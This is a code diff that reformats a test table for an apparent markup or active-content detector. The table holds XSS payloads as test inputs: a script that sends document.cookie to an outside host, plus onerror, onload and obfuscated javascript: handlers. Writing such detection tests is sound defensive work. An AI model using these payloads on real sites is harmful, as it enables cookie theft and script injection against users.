@@ -4,7 +4,11 @@ import { readActiveContent } from './active-content.ts'
 
 describe('markup', () => {
   test.each([
-    ['a script that reads cookies', '<script>new Image().src="//x.org?"+document.cookie</script>', 'steals'],
+    [
+      'a script that reads cookies',
+      '<script>new Image().src="//x.org?"+document.cookie</script>',
+      'steals',
+    ],
     ['a handler without quotation marks', '<img src=x onerror=alert(1)>', 'runs'],
     ['a handler after a slash', '<svg/onload=alert(1)>', 'runs'],
     ['a scheme with a tab in it', '<a href="java\tscript:alert(1)">x</a>', 'runs'],
